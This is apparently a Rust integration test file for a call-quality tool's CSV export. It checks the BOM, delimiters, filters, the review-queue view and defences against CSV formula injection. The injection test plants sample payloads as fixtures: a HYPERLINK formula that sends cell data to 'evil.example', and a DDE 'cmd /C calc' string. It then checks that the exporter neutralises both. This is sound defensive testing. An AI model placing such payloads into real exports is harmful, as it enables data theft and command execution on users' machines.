//! `callq export` against real PostgreSQL: BOM, header, delimiter, filters, the review
//! queue's view required.

use crate::common::{Harness, World, day};
use callq::severity::ExitCode;

fn read(path: &std::path::Path) -> (Vec<String>, Vec<Vec<String>>, u8) {
    let bytes = std::fs::read(path).unwrap();
    assert!(bytes.starts_with(callq::export::BOM), "UTF-8 BOM first");
    let text = String::from_utf8(bytes[3..].to_vec()).unwrap();
    let delimiter = if text.lines().next().unwrap().contains(';') {
        b';'
    } else {
        b','
    };
    let mut r = csv::ReaderBuilder::new()
        .delimiter(delimiter)
        .from_reader(text.as_bytes());
    let header = r.headers().unwrap().iter().map(String::from).collect();
    let rows = r
        .records()
        .map(|rec| rec.unwrap().iter().map(String::from).collect())
        .collect();
    (header, rows, delimiter)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn exports_stream_the_views_as_csv() {
    let h = Harness::start(World::default()).await;
    assert_eq!(h.run(&[]).await, ExitCode::Ok);
    let out = h.dir.path().join("calls.csv");
    let out_s = out.display().to_string();

    assert_eq!(
        h.callq(&["export", "calls", "--out", &out_s, "--delimiter", ";"])
            .await,
        ExitCode::Ok
    );
    let (header, rows, delimiter) = read(&out);
    assert_eq!(delimiter, b';');
    assert_eq!(&header[..3], ["call_id", "day", "start_time"]);
    assert_eq!(
        rows.len() as i64,
        h.count("SELECT count(*) FROM v_scored_calls").await
    );
    let d = day().to_string();
    assert!(rows.iter().all(|r| r[1] == d));
    let name_col = header.iter().position(|c| c == "operator_name").unwrap();
    assert!(rows.iter().any(|r| r[name_col] == "Иванова Анна Сергеевна"));

    // Filters: nothing is below 0 %; one operator; a day with no calls.
    h.callq(&["export", "calls", "--out", &out_s, "--max-percent", "0"])
        .await;
    assert_eq!(read(&out).1.len(), 0);
    h.callq(&["export", "calls", "--out", &out_s, "--operator", "5513"])
        .await;
    assert_eq!(read(&out).1.len(), 2, "5513 has calls 1 and 4 of the six");
    h.callq(&[
        "export",
        "calls",
        "--out",
        &out_s,
        "--from",
        "2025-01-01",
        "--to",
        "2025-01-02",
    ])
    .await;
    assert_eq!(read(&out).1.len(), 0);

    h.callq(&["export", "evaluations", "--out", &out_s]).await;
    let (header, rows, _) = read(&out);
    assert!(header.contains(&"criterion".to_string()) && header.contains(&"reason".to_string()));
    assert_eq!(
        rows.len() as i64,
        h.count("SELECT count(*) FROM call_evaluations").await
    );
    h.callq(&["export", "recommendations", "--out", &out_s])
        .await;
    assert_eq!(
        read(&out).1.len() as i64,
        h.count("SELECT count(*) FROM call_recommendations").await
    );

    // The review queue as the migrations define it.
    assert_eq!(
        h.callq(&["export", "review", "--department", "1", "--out", &out_s])
            .await,
        ExitCode::Ok
    );
    assert_eq!(
        read(&out).1.len() as i64,
        h.count("SELECT count(*) FROM v_review_queue").await
    );
    // A database without the view (an older schema) gets a clear error, exit 2.
    h.db.client()
        .await
        .batch_execute("DROP VIEW v_review_queue")
        .await
        .unwrap();
    assert_eq!(
        h.callq(&["export", "review", "--out", &out_s]).await,
        ExitCode::BadInput
    );
    h.db.client()
        .await
        .batch_execute(
            "CREATE VIEW v_review_queue AS
             SELECT call_id, operator_id, operator_name, day, performance_percentage,
                    ARRAY['low_score', 'zero; on critical']::text[] AS review_reasons
             FROM v_scored_calls",
        )
        .await
        .unwrap();
    assert_eq!(
        h.callq(&["export", "review", "--out", &out_s]).await,
        ExitCode::Ok
    );
    let (header, rows, _) = read(&out);
    assert_eq!(header.last().unwrap(), "review_reasons");
    assert_eq!(
        rows.len() as i64,
        h.count("SELECT count(*) FROM v_scored_calls").await
    );
    assert_eq!(rows[0].last().unwrap(), "low_score; zero; on critical");
    assert_eq!(
        h.callq(&["export", "review", "--department", "1", "--out", &out_s])
            .await,
        ExitCode::BadInput,
        "the stand-in view has no department_id"
    );
}

/// CSV injection: a name a person typed into the operator file and a recommendation the
/// model wrote, both formulas, come out as text a spreadsheet shows and does not run;
/// numbers, negative ones included, stay numbers.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn cells_a_spreadsheet_would_run_are_written_as_text() {
    let mut world = World::default();
    world.calls[0]
        .phrases
        .push((false, "[recommendation:formula]".into()));
    let h = Harness::start(world).await;
    assert_eq!(h.run(&[]).await, ExitCode::Ok);

    // After the run (the run matches T-Bank's names against the directory), the directory
    // is imported again with a formula for a name, quoted as Excel writes such a cell.
    let name = r#"=HYPERLINK("http://evil.example/?d="&A1,"Клик")"#;
    let operators = h.dir.path().join("operators.csv");
    std::fs::write(
        &operators,
        format!(
            "id;full_name;department_id;office;supervisor\n5512;\"{}\";1;;\n",
            name.replace('"', "\"\"")
        ),
    )
    .unwrap();
    let shown = operators.display().to_string();
    assert_eq!(
        h.callq(&["operators", "import", &shown]).await,
        ExitCode::Ok
    );
    let c = h.db.client().await;
    let stored: String = c
        .query_one("SELECT full_name FROM operators WHERE id = 5512", &[])
        .await
        .unwrap()
        .get(0);
    assert_eq!(stored, name, "imported as written");
    // A negative score next to a reason that starts like one: only the text is a risk.
    c.batch_execute(
        "UPDATE call_evaluations SET score = -0.5, reason = '-1+cmd|'' /C calc''!A0'
         WHERE id = (SELECT min(id) FROM call_evaluations WHERE call_id = 90000000)",
    )
    .await
    .unwrap();

    let out = h.dir.path().join("export.csv");
    let out_s = out.display().to_string();
    let export = |kind: &'static str| {
        let out_s = out_s.clone();
        let h = &h;
        async move {
            h.callq(&["export", kind, "--out", &out_s, "--delimiter", ";"])
                .await
        }
    };
    let column = |header: &[String], name: &str| header.iter().position(|c| c == name).unwrap();

    assert_eq!(export("recommendations").await, ExitCode::Ok);
    let raw = String::from_utf8(std::fs::read(&out).unwrap()[3..].to_vec()).unwrap();
    // Quoted as CSV requires (the name has quotes), the apostrophe inside the quotes.
    assert!(
        raw.contains(r#";"'=HYPERLINK(""http://evil.example/?d=""&A1,""Клик"")";"#),
        "{raw}"
    );
    let (header, rows, _) = read(&out);
    let (rec, name_col) = (
        column(&header, "recommendation"),
        column(&header, "operator_name"),
    );
    let call = rows.iter().find(|r| r[0] == "90000000").unwrap();
    assert_eq!(call[rec], "'+1+cmd|' /C calc'!A0");
    assert_eq!(call[name_col], format!("'{name}"));
    assert!(
        rows.iter()
            .filter(|r| r[0] != "90000000")
            .all(|r| r[rec] == "Задавать открытые вопросы"),
        "ordinary text is left alone"
    );

    assert_eq!(export("evaluations").await, ExitCode::Ok);
    let (header, rows, _) = read(&out);
    let (score, reason) = (column(&header, "score"), column(&header, "reason"));
    let first = rows.iter().find(|r| r[0] == "90000000").unwrap();
    assert_eq!(first[score], "-0.5", "a number stays a number");
    assert_eq!(first[reason], "'-1+cmd|' /C calc'!A0");
    assert!(
        rows.iter()
            .all(|r| !r[column(&header, "max_score")].starts_with('\''))
    );

    assert_eq!(export("calls").await, ExitCode::Ok);
    let (header, rows, _) = read(&out);
    let call = rows.iter().find(|r| r[0] == "90000000").unwrap();
    assert_eq!(call[column(&header, "operator_name")], format!("'{name}"));
    assert_eq!(call[column(&header, "operator_id")], "5512");
}
